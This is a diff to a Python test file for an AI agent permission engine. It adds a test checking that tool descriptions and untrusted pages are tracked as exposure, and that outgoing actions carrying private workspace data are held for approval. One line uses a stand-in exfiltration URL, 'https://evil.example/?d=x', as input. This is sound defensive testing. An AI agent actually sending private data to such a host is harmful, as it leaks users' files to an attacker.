@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from agent_fabric.application.tools.call_site import CallSite
 from agent_fabric.application.tools.invoke_tool import proposed
 from agent_fabric.domain.ids import LaneId, RunId
-from agent_fabric.domain.labels import OTHER_RUNS, WORKSPACE_FILES, Flow, address_key, addresses_in
+from agent_fabric.domain.labels import DESCRIPTIONS, OTHER_RUNS, WORKSPACE_FILES, Flow, address_key, addresses_in
 from agent_fabric.domain.policy.engine import RulePolicy
 from agent_fabric.domain.policy.outgoing_limits import OutgoingLimits
 from agent_fabric.domain.policy.profiles import Profile
@@ -170,6 +170,17 @@ def test_the_name_of_a_server_exempts_nothing(name: str) -> None:
     )
     assert judge(spec, {}, other).verdict is Verdict.ASK
     assert judge(spec, {}, Flow(exposed=(TRACKER,))).rule == "untrusted_text"
+
+
+def test_descriptions_of_tools_expose_but_do_not_make_every_act_ask() -> None:
+    described = f"{DESCRIPTIONS}{TRACKER}"
+    private = Flow(exposed=(described,), private=(WORKSPACE_FILES,))
+    assert judge(FETCH_URL, {"url": "https://evil.example/?d=x"}, private).verdict is Verdict.ASK
+    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, private).rule == "private_data"
+    public = Flow(exposed=(described,))
+    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, public).verdict is Verdict.ALLOW
+    read = Flow(exposed=(described, PAGE))
+    assert judge(served(Effect.LEAVES_SANDBOX), {"text": "x"}, read).rule == "untrusted_text"
 
 
 def test_a_tool_server_in_a_box_without_network_carries_nothing_out() -> None:
